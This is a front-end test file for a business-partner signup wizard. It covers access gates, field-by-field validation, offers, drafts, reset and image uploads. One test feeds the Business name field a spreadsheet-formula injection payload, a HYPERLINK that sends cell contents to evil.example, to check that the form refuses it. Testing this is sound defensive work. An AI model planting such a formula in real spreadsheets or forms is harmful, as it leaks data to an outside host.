import { fireEvent, screen, waitFor, within } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { BUSINESS_STATUS, fill, PERPETUAL_DATE } from '#shared/constants.js';
import { formulaMessage } from '#shared/partner-rules.js';
import { homeFixture } from './fixtures/home-data';
import { expectFieldError, timesShown } from './form-assertions';
import { BUSINESS_INFO_STEPS, INCLUDE_FIELD_NAMES, LOCATION_STEPS } from '../support/wizard-steps';
import { currentLocation, ok, renderApp, signedIn, stubApi, typeInto } from './render';
import { COMMON_MESSAGES } from '#shared/schemas/common-messages.js';
import { PARTNERS_MESSAGES } from '#shared/schemas/partners-messages.js';

// The business-partner landing page and the wizard: the gates,
// every check in its order (business info, include-as-location, location, offer), the rules that
// change the draft (a new offer's defaults, a disabled location's offers), and Save for later sending the draft with its version.

const profile = (isAdmin: 0 | 1) =>
  ok({
    success: true,
    profile: {
      userId: 'm-1',
      firstName: 'Ann',
      lastName: 'Lee',
      email: 'ann@example.com',
      cellPhone: null,
      ipAddress: '1.2.3.4',
      date: '2026-11-25T00:00:00.000Z',
      isAdmin,
    },
  });
const CATEGORIES = ok({
  success: true,
  categories: [
    { category: 'Dining', subcategories: [{ subcategory: 'Pizza' }, { subcategory: 'Cafe' }] },
    { category: 'Auto', subcategories: [{ subcategory: 'Repair' }] },
  ],
});
const wizardApi = (extra: Record<string, unknown> = {}, isAdmin: 0 | 1 = 0) =>
  stubApi({
    'tbp/getprofile': profile(isAdmin),
    'tbp/listcategories': CATEGORIES,
    'tbp/getcoopinfo': ok({
      success: true,
      coopInfo: {
        coopName: 'Prairie Sky Electric Cooperative',
        address: '1200 Sunflower Road',
        city: 'Lawrence',
        state: 'KS',
        zip: '66044',
      },
    }),
    'tbp/getbusinessdraft': ok({ success: true, business: null }),
    ...(extra as Record<string, ReturnType<typeof ok>>),
  });

afterEach(() => {
  window.sessionStorage.clear();
  vi.unstubAllGlobals();
});

async function openWizard(api = wizardApi()) {
  signedIn();
  vi.stubGlobal('fetch', api.fetchStub);
  renderApp({ route: '/b2c/newbpc/0/new', home: homeFixture });
  return { form: await screen.findByRole('form', { name: 'Business' }), api };
}
const warning = (scope: HTMLElement) => within(scope).getByRole('alert').textContent;

describe('newbp and the wizard gate', () => {
  it('shows the landing page with Join Now to the wizard and Contact Us', async () => {
    renderApp({ route: '/b2c/newbp', home: homeFixture });
    expect(await screen.findByRole('heading', { level: 1, name: /Offer a discount to .+ members/ })).toBeTruthy();
    expect(screen.getByRole('heading', { name: 'How it works' })).toBeTruthy();
    const main = screen.getByRole('main');
    expect(within(main).getByRole('link', { name: 'Join Now' }).getAttribute('href')).toBe('/b2c/newbpc/0/new');
    expect(within(main).getByRole('link', { name: 'Contact Us' }).getAttribute('href')).toBe('/b2c/ccontact');
  });

  it('sends a visitor to newbp with the info popup, and any other id or action to newbp', async () => {
    renderApp({ route: '/b2c/newbpc/0/new', home: homeFixture });
    expect(await screen.findByText(PARTNERS_MESSAGES.offerDiscountLogin)).toBeTruthy();
    await waitFor(() => expect(currentLocation()).toBe('/b2c/newbp'));
  });

  it.each(['/b2c/newbpc/7/new', '/b2c/newbpc/0/edit'])('sends %s to newbp', async (route) => {
    signedIn();
    vi.stubGlobal('fetch', wizardApi().fetchStub);
    renderApp({ route, home: homeFixture });
    await waitFor(() => expect(currentLocation()).toBe('/b2c/newbp'));
  });

  it('turns staff (isAdmin 1) away with the spec warning', async () => {
    signedIn('admin');
    vi.stubGlobal('fetch', wizardApi({}, 1).fetchStub);
    renderApp({ route: '/b2c/newbpc/0/new', home: homeFixture });
    expect(await screen.findByText(PARTNERS_MESSAGES.adminCannotCreateBusiness)).toBeTruthy();
    await waitFor(() => expect(currentLocation()).toBe('/b2c/newbp'));
  });
});

describe('Business Info', () => {
  it("warns on Send for Approval in the spec's order, one field at a time", async () => {
    const { form, api } = await openWizard();
    const send = () => fireEvent.click(within(form).getByRole('button', { name: 'Send for Approval' }));
    const steps = BUSINESS_INFO_STEPS;
    for (const [label, message, value] of steps) {
      send();
      await waitFor(() => expect(warning(form)).toBe(`${COMMON_MESSAGES.warningTitle}${message}`));
      expectFieldError(within(form).getByLabelText(label), message);
      typeInto(form, label, value);
    }
    expect(api.paths()).not.toContain('tbp/savebusinesstemp');
  });

  it("checks the signer's email on the Agreement tab and sends the signer with the business", async () => {
    const api = wizardApi({
      'tbp/savebusinesstemp': (body: { json: unknown }) =>
        ok({
          success: true,
          message: PARTNERS_MESSAGES.draftSaved,
          draft: body.json,
          version: 1,
          status: 99,
          reviewNote: null,
        }),
    } as Record<string, unknown>);
    const { form } = await openWizard(api);
    for (const [label, value] of [
      ['Business name', 'Corner Bakery'],
      ['Address', '12 Wheat Street'],
      ['City', 'Lawrence'],
      ['State', 'KS'],
      ['ZIP code', '66044'],
      ['Phone', '7855550142'],
      ['Email', 'owner@corner.example'],
    ])
      typeInto(form, label!, value!);
    fireEvent.click(within(form).getByRole('tab', { name: 'Agreement' }));
    typeInto(form, "Signer's full name", 'Pat Baker');
    typeInto(form, "Signer's job title", 'Owner');
    typeInto(form, "Signer's email", 'pat at corner');
    fireEvent.click(within(form).getByRole('button', { name: 'Send for Approval' }));
    await waitFor(() =>
      expect(warning(form)).toBe(`${COMMON_MESSAGES.warningTitle}${PARTNERS_MESSAGES.bizSignerEmailInvalid}`),
    );
    expect(within(form).getByRole('tab', { name: 'Agreement' }).getAttribute('aria-selected')).toBe('true');
    expectFieldError(within(form).getByLabelText("Signer's email"), PARTNERS_MESSAGES.bizSignerEmailInvalid);
    typeInto(form, "Signer's email", 'pat@corner.example');
    fireEvent.click(within(form).getByRole('button', { name: 'Save for later' }));
    await waitFor(() => expect(api.paths()).toContain('tbp/savebusinesstemp'));
    expect(api.calls.find((c) => c.path === 'tbp/savebusinesstemp')!.body.json.contractInfo).toMatchObject({
      emailTo: 'pat@corner.example',
      businessData: { printedName: 'Pat Baker', title: 'Owner' },
    });
  });

  it('refuses free text that would start a spreadsheet formula, naming the field', async () => {
    const { form, api } = await openWizard();
    const evil = '=HYPERLINK("https://evil.example/?"&A3,"Open")';
    for (const [label, value] of [
      ['Business name', evil],
      ['Address', '12 Wheat Street'],
      ['City', 'Lawrence'],
      ['State', 'KS'],
      ['ZIP code', '66044'],
      ['Phone', '7855550142'],
      ['Email', 'owner@corner.example'],
      ['Website', '+evil.example'],
    ])
      typeInto(form, label!, value!);
    const send = () => fireEvent.click(within(form).getByRole('button', { name: 'Send for Approval' }));
    send();
    const nameMessage = formulaMessage('businessName');
    await waitFor(() => expect(warning(form)).toBe(`${COMMON_MESSAGES.warningTitle}${nameMessage}`));
    expectFieldError(within(form).getByLabelText('Business name'), nameMessage);
    typeInto(form, 'Business name', 'Corner Bakery');
    send();
    await waitFor(() => expect(warning(form)).toBe(`${COMMON_MESSAGES.warningTitle}${formulaMessage('website')}`));
    expect(api.paths()).not.toContain('tbp/savebusinesstemp');
  });

  it('refuses to include the main address as a location until it is complete, then adds it', async () => {
    const { form } = await openWizard();
    const box = () =>
      within(form).getByLabelText('Include the main business address as a location') as HTMLInputElement;
    // Each missing part of the main address in turn names itself, and the box stays unticked.
    for (const [label, value] of [
      ['Business name', 'Corner Bakery'],
      ['Address', '12 Wheat Street'],
      ['City', 'Lawrence'],
      ['State', 'KS'],
      ['ZIP code', '66044'],
      ['Phone', '7855550142'],
    ] as const) {
      fireEvent.click(box());
      await waitFor(() =>
        expect(warning(form)).toBe(
          `${COMMON_MESSAGES.warningTitle}${fill(PARTNERS_MESSAGES.includeAsLocation, { field: INCLUDE_FIELD_NAMES[label] ?? label })}`,
        ),
      );
      expect(box().checked).toBe(false);
      typeInto(form, label, value);
    }
    fireEvent.click(box());
    await waitFor(() => expect(box().checked).toBe(true));
    fireEvent.click(within(form).getByRole('tab', { name: 'Locations' }));
    expect(
      within(within(form).getByRole('table', { name: 'Locations' })).getByText('Corner Bakery (main address)'),
    ).toBeTruthy();
  });
});

/** A saved draft with one location (East store), as the server answers it. */
const draftWithLocation = ok({
  success: true,
  business: {
    draft: {
      bpId: 'bp-4',
      memberInfo: {
        userId: 'm-1',
        firstName: 'Ann',
        lastName: 'Lee',
        email: 'ann@example.com',
        cellPhone: null,
        zip: '66044',
      },
      businessInfo: {
        businessName: 'Corner Bakery',
        address: '',
        city: '',
        state: '',
        zip: '',
        phone: '',
        website: '',
        email: '',
        logoCode: null,
        image1Code: null,
        image2Code: null,
        includeAsLocation: false,
        status: 99,
        orgStatus: 99,
      },
      locations: [
        {
          id: 'loc-1',
          type: 0,
          locationName: 'East store',
          address: '400 Mass Street',
          city: 'Lawrence',
          state: 'KS',
          zip: '66044',
          phone: '(785) 555-0100',
          status: 1,
          hideAddress: false,
          offers: [],
        },
      ],
      offers: [],
      contractInfo: { eSignType: 'sign', businessData: {} },
    },
    version: 1,
    status: 99,
    reviewNote: null,
  },
});

/**
 * The wizard with one location (East store), its Add offer dialog open. The location is added
 * through its dialog (what a member does first), or, where the test is about the offer dialog
 * alone, comes with a saved draft: the location dialog's walk is the other tests' subject.
 */
async function openOfferDialog(location: 'added' | 'saved' = 'added') {
  const { form } = await openWizard(
    location === 'saved' ? wizardApi({ 'tbp/getbusinessdraft': draftWithLocation }) : wizardApi(),
  );
  if (location === 'added') {
    fireEvent.click(within(form).getByRole('tab', { name: 'Locations' }));
    fireEvent.click(within(form).getByRole('button', { name: 'Add location' }));
    const locationDialog = await screen.findByRole('form', { name: 'Location' });
    for (const [label, value] of [
      ['Location name', 'East store'],
      ['Address', '400 Mass Street'],
      ['City', 'Lawrence'],
      ['State', 'KS'],
      ['ZIP code', '66044'],
      ['Phone', '7855550100'],
    ] as const)
      typeInto(locationDialog, label, value);
    fireEvent.click(within(locationDialog).getByRole('button', { name: 'Save location' }));
    await waitFor(() => expect(screen.queryByRole('form', { name: 'Location' })).toBeNull());
  }
  fireEvent.click(within(form).getByRole('tab', { name: 'Offers' }));
  fireEvent.click(within(form).getByRole('button', { name: 'Add offer' }));
  const dialog = await screen.findByRole('form', { name: 'Offer' });
  const save = () => fireEvent.click(within(dialog).getByRole('button', { name: 'Save offer' }));
  const expectWarning = (message: string) =>
    waitFor(() => expect(warning(dialog)).toBe(`${COMMON_MESSAGES.warningTitle}${message}`));
  return { form, dialog, save, expectWarning };
}

describe('the location and offer dialogs', () => {
  it("check a location in the spec's order", async () => {
    const { form } = await openWizard();
    fireEvent.click(within(form).getByRole('tab', { name: 'Locations' }));
    fireEvent.click(within(form).getByRole('button', { name: 'Add location' }));
    const dialog = await screen.findByRole('form', { name: 'Location' });
    const steps = LOCATION_STEPS;
    for (const [label, message, value] of steps) {
      fireEvent.click(within(dialog).getByRole('button', { name: 'Save location' }));
      await waitFor(() => expect(warning(dialog)).toBe(`${COMMON_MESSAGES.warningTitle}${message}`));
      typeInto(dialog, label, value);
    }
    fireEvent.click(within(dialog).getByRole('button', { name: 'Save location' }));
    await waitFor(() => expect(screen.queryByRole('form', { name: 'Location' })).toBeNull());
    expect(
      within(within(form).getByRole('table', { name: 'Locations' })).getByText('400 Mass Street, Lawrence, KS 66044'),
    ).toBeTruthy();
  });

  it("check an offer in the spec's order; perpetual sets 01/01/2050 and a category ticks its subcategories", async () => {
    const { form, dialog, save, expectWarning } = await openOfferDialog();

    save();
    await expectWarning(PARTNERS_MESSAGES.offerValueRequired);
    typeInto(dialog, 'Display value', '10% off');
    save();
    await expectWarning(PARTNERS_MESSAGES.offerDescriptionRequired);
    typeInto(dialog, 'Full description', '-10% on any order');
    save();
    await expectWarning(formulaMessage('description'));
    typeInto(dialog, 'Full description', 'Ten percent off any order.');
    save();
    await expectWarning(PARTNERS_MESSAGES.offerDollarRequired);
    typeInto(dialog, 'Estimated dollar value', '4.50');
    // A new offer's frequency is 0: required is met, greater than 0 is not.
    save();
    await expectWarning(PARTNERS_MESSAGES.offerFrequencyPositive);
    typeInto(dialog, 'Frequency', '2');
    fireEvent.click(within(dialog).getByLabelText('Printed coupon'));
    fireEvent.click(within(dialog).getByLabelText('Mobile redemption'));
    save();
    await expectWarning(PARTNERS_MESSAGES.offerChannel);
    fireEvent.click(within(dialog).getByLabelText('Mobile redemption'));
    save();
    await expectWarning(PARTNERS_MESSAGES.offerExpirationRequired);
    fireEvent.click(within(dialog).getByLabelText('Perpetual (no end: expires 01/01/2050)'));
    expect((within(dialog).getByLabelText('Expiration date') as HTMLInputElement).value).toBe(PERPETUAL_DATE);
    save();
    await expectWarning(PARTNERS_MESSAGES.offerCategoryRequired);
    expect(within(dialog).getByRole('tab', { name: 'Categories' }).getAttribute('aria-selected')).toBe('true');
    fireEvent.click(within(dialog).getByLabelText('Dining'));
    expect((within(dialog).getByLabelText('Pizza') as HTMLInputElement).checked).toBe(true);
    expect((within(dialog).getByLabelText('Cafe') as HTMLInputElement).checked).toBe(true);
    expect((within(dialog).getByLabelText('Repair') as HTMLInputElement).checked).toBe(false);
    save();
    await expectWarning(PARTNERS_MESSAGES.offerLocationRequired);
    fireEvent.click(within(dialog).getByLabelText('East store: 400 Mass Street, Lawrence'));
    save();
    await waitFor(() => expect(screen.queryByRole('form', { name: 'Offer' })).toBeNull());
    const offers = within(form).getByRole('table', { name: 'Offers' });
    expect(within(offers).getByText('10% off')).toBeTruthy();
    expect(within(offers).getByText('2 per day')).toBeTruthy();
  });
});

describe('the offer dialog says what is wrong', () => {
  it('refuses a past or unreal expiry and a dollar value that is no number, each with its message; the dollar input takes digits and a point only', async () => {
    const { dialog, save, expectWarning } = await openOfferDialog('saved');
    const dollars = () => (within(dialog).getByLabelText('Estimated dollar value') as HTMLInputElement).value;
    typeInto(dialog, 'Display value', '10% off');
    typeInto(dialog, 'Full description', 'Ten percent off any order.');

    // Letters never get into the dollar value; a lone point does, and is not a number.
    typeInto(dialog, 'Estimated dollar value', 'abc');
    expect(dollars()).toBe('');
    typeInto(dialog, 'Estimated dollar value', '.');
    save();
    await expectWarning(PARTNERS_MESSAGES.offerDollarInvalid);
    typeInto(dialog, 'Estimated dollar value', '12.50');
    expect(dollars()).toBe('12.50');
    typeInto(dialog, 'Estimated dollar value', '12.50x');
    expect(dollars()).toBe('12.50');
    typeInto(dialog, 'Frequency', '1');

    for (const [typed, message] of [
      ['01012020', PARTNERS_MESSAGES.offerExpirationPast],
      ['13452020', PARTNERS_MESSAGES.offerExpirationInvalid],
      ['02302027', PARTNERS_MESSAGES.offerExpirationInvalid],
    ] as const) {
      typeInto(dialog, 'Expiration date', typed);
      save();
      await expectWarning(message);
      expect(within(dialog).getByRole('tab', { name: 'Offer Information' }).getAttribute('aria-selected')).toBe('true');
    }
    // Perpetual (01/01/2050) passes: the next check is the categories'.
    fireEvent.click(within(dialog).getByLabelText('Perpetual (no end: expires 01/01/2050)'));
    save();
    await expectWarning(PARTNERS_MESSAGES.offerCategoryRequired);
  });
});

describe('Save for later', () => {
  it('sends the draft with the version it started from and returns to newbp', async () => {
    const stored = {
      draft: {
        bpId: 'bp-1',
        memberInfo: {
          userId: 'm-1',
          firstName: 'Ann',
          lastName: 'Lee',
          email: 'ann@example.com',
          cellPhone: null,
          zip: '66044',
        },
        businessInfo: {
          businessName: 'Corner Bakery',
          address: '',
          city: '',
          state: '',
          zip: '',
          phone: '',
          website: '',
          email: '',
          logoCode: null,
          image1Code: null,
          image2Code: null,
          includeAsLocation: false,
          status: 99,
          orgStatus: 99,
        },
        locations: [],
        offers: [],
        contractInfo: { eSignType: 'sign', businessData: {} },
      },
      version: 3,
      status: 99,
      reviewNote: null,
    };
    const api = wizardApi({
      'tbp/getbusinessdraft': ok({ success: true, business: stored }),
      'tbp/savebusinesstemp': ok({ success: true, message: PARTNERS_MESSAGES.draftSaved, ...stored, version: 4 }),
    });
    const { form } = await openWizard(api);
    expect((within(form).getByLabelText('Business name') as HTMLInputElement).value).toBe('Corner Bakery');
    typeInto(form, 'City', 'Lawrence');
    fireEvent.click(within(form).getByRole('button', { name: 'Save for later' }));
    await waitFor(() => expect(currentLocation()).toBe('/b2c/newbp'));
    const body = api.calls.find((c) => c.path === 'tbp/savebusinesstemp')!.body;
    expect(body).toMatchObject({
      credentials: 'm-1',
      id: 'bp-1',
      businessName: 'Corner Bakery',
      version: 3,
      submit: false,
      json: { bpId: 'bp-1', businessInfo: { city: 'Lawrence' } },
    });
    // What it loaded at that version, for the server to keep fields the page did not change.
    expect(body).toMatchObject({ base: { businessInfo: { businessName: 'Corner Bakery', city: '' } } });
  });
});

describe('Send for Approval', () => {
  // Said once: the page's 'Waiting for approval' and a notification once said the same words twice.
  it('says once that the business was sent: the page turns to Waiting for approval', async () => {
    const stored = {
      draft: {
        bpId: 'bp-3',
        memberInfo: {
          userId: 'm-1',
          firstName: 'Ann',
          lastName: 'Lee',
          email: 'ann@example.com',
          cellPhone: null,
          zip: '66044',
        },
        businessInfo: {
          businessName: 'Corner Bakery',
          address: '12 Wheat Street',
          city: 'Lawrence',
          state: 'KS',
          zip: '66044',
          phone: '(785) 555-0142',
          website: '',
          email: 'owner@corner.example',
          logoCode: null,
          image1Code: null,
          image2Code: null,
          includeAsLocation: false,
          status: 99,
          orgStatus: 99,
        },
        locations: [
          {
            id: 'loc-1',
            type: 0,
            locationName: 'East',
            address: '1 A St',
            city: 'Lawrence',
            state: 'KS',
            zip: '66044',
            phone: '(785) 555-0100',
            status: 1,
            hideAddress: false,
            offers: [],
          },
        ],
        offers: [],
        contractInfo: {
          eSignType: 'sign',
          emailTo: 'pat@corner.example',
          businessData: { printedName: 'Pat Baker', title: 'Owner' },
        },
      },
      version: 2,
      status: 99,
      reviewNote: null,
    };
    const api = wizardApi({
      'tbp/getbusinessdraft': ok({ success: true, business: stored }),
      'tbp/savebusinesstemp': (body: { json: unknown }) =>
        ok({
          success: true,
          message: PARTNERS_MESSAGES.draftSubmitted,
          draft: body.json,
          version: 3,
          status: BUSINESS_STATUS.inReview,
          reviewNote: null,
        }),
    } as Record<string, unknown>);
    const { form } = await openWizard(api);
    fireEvent.click(within(form).getByRole('button', { name: 'Send for Approval' }));
    const status = await screen.findByTestId('business-status');
    expect(status.textContent).toContain(PARTNERS_MESSAGES.draftSubmitted);
    expect(api.calls.find((c) => c.path === 'tbp/savebusinesstemp')!.body).toMatchObject({ submit: true });
    // A notification of the answer would be on screen now: it is shown in the same task as the page turns.
    expect(timesShown(document.body, PARTNERS_MESSAGES.draftSubmitted)).toBe(1);
  });
});

describe('Reset', () => {
  it('asks first, then saves an emptied draft under the same id and clears the form', async () => {
    const stored = {
      draft: {
        bpId: 'bp-2',
        memberInfo: {
          userId: 'm-1',
          firstName: 'Ann',
          lastName: 'Lee',
          email: 'ann@example.com',
          cellPhone: null,
          zip: '66044',
        },
        businessInfo: {
          businessName: 'Corner Bakery',
          address: '12 Wheat Street',
          city: 'Lawrence',
          state: 'KS',
          zip: '66044',
          phone: '(785) 555-0142',
          website: '',
          email: '',
          logoCode: null,
          image1Code: null,
          image2Code: null,
          includeAsLocation: false,
          status: 99,
          orgStatus: 99,
        },
        locations: [
          {
            id: 'loc-1',
            type: 0,
            locationName: 'East',
            address: '1 A St',
            city: 'Lawrence',
            state: 'KS',
            zip: '66044',
            phone: '(785) 555-0100',
            status: 1,
            hideAddress: false,
            offers: [],
          },
        ],
        offers: [],
        contractInfo: { eSignType: 'sign', businessData: {} },
      },
      version: 2,
      status: 99,
      reviewNote: null,
    };
    const api = wizardApi({
      'tbp/getbusinessdraft': ok({ success: true, business: stored }),
      'tbp/savebusinesstemp': (body: { json: unknown }) =>
        ok({
          success: true,
          message: PARTNERS_MESSAGES.draftSaved,
          draft: body.json,
          version: 3,
          status: 99,
          reviewNote: null,
        }),
    } as Record<string, unknown>);
    const { form } = await openWizard(api);
    fireEvent.click(within(form).getByRole('button', { name: 'Reset' }));
    const confirm = await screen.findByRole('dialog', { name: 'Reset the business?' });
    expect(api.paths()).not.toContain('tbp/savebusinesstemp');
    fireEvent.click(within(confirm).getByRole('button', { name: 'Reset' }));
    await waitFor(() => expect((within(form).getByLabelText('Business name') as HTMLInputElement).value).toBe(''));
    const body = api.calls.find((c) => c.path === 'tbp/savebusinesstemp')!.body;
    expect(body).toMatchObject({
      id: 'bp-2',
      version: 2,
      submit: false,
      removed: { locations: ['loc-1'], offers: [] },
      json: { bpId: 'bp-2', locations: [], offers: [], businessInfo: { businessName: '' } },
    });
  });
});

describe('Logo & Images', () => {
  it('refuses an image over 400 KB before sending it, and shows no preview', async () => {
    const api = wizardApi();
    Object.assign(URL, { createObjectURL: () => 'blob:logo', revokeObjectURL: () => undefined });
    signedIn();
    vi.stubGlobal('fetch', api.fetchStub);
    renderApp({ route: '/b2c/newbpc/0/new', home: homeFixture });
    const form = await screen.findByRole('form', { name: 'Business' });
    fireEvent.click(within(form).getByRole('tab', { name: 'Logo & Images' }));
    expect(within(form).getByTestId('image-limit').textContent).toContain('at most 400 KB');
    fireEvent.change(form.querySelector('input[type=file]')!, {
      target: { files: [new File([new Uint8Array(409_601)], 'big.png', { type: 'image/png' })] },
    });
    await screen.findByText(PARTNERS_MESSAGES.imageSize);
    expect(within(form).queryByRole('img', { name: 'Logo preview' })).toBeNull();
    expect(api.paths()).not.toContain('setup/uploadbpimage');
  });

  it('holds Save for later and Send for Approval while an image uploads, and sends its name once stored', async () => {
    const api = wizardApi({
      'tbp/savebusinesstemp': (body: { json: unknown }) =>
        ok({
          success: true,
          message: PARTNERS_MESSAGES.draftSaved,
          draft: body.json,
          version: 1,
          status: 99,
          reviewNote: null,
        }),
    } as Record<string, unknown>);
    let finish: (r: Response) => void = () => undefined;
    const uploaded = new Promise<Response>((resolve) => (finish = resolve));
    // The upload is multipart (not the stub's JSON): it answers when the test says so.
    const fetchStub = (url: string, init: RequestInit) =>
      url.endsWith('setup/uploadbpimage') ? uploaded : api.fetchStub(url, init);
    // jsdom has no object URLs; the preview only needs a string.
    Object.assign(URL, { createObjectURL: () => 'blob:logo', revokeObjectURL: () => undefined });
    signedIn();
    vi.stubGlobal('fetch', fetchStub);
    renderApp({ route: '/b2c/newbpc/0/new', home: homeFixture });
    const form = await screen.findByRole('form', { name: 'Business' });
    fireEvent.click(within(form).getByRole('tab', { name: 'Logo & Images' }));
    const logoInput = form.querySelector('input[type=file]')!;
    fireEvent.change(logoInput, {
      target: { files: [new File([new Uint8Array([137, 80, 78, 71])], 'logo.png', { type: 'image/png' })] },
    });
    await within(form).findByText('Uploading…');
    const save = within(form).getByRole('button', { name: 'Save for later' }) as HTMLButtonElement;
    const send = within(form).getByRole('button', { name: 'Send for Approval' }) as HTMLButtonElement;
    expect([save.disabled, send.disabled]).toEqual([true, true]);

    finish(
      new Response(JSON.stringify({ success: true, message: 'Image1C-stored.png' }), {
        status: 200,
        headers: { 'content-type': 'application/json' },
      }),
    );
    await waitFor(() => expect(save.disabled).toBe(false));
    expect(send.disabled).toBe(false);
    fireEvent.click(save);
    await waitFor(() => expect(api.paths()).toContain('tbp/savebusinesstemp'));
    const body = api.calls.find((c) => c.path === 'tbp/savebusinesstemp')!.body;
    expect(body.json.businessInfo.logoCode).toBe('Image1C-stored.png');
  });
});
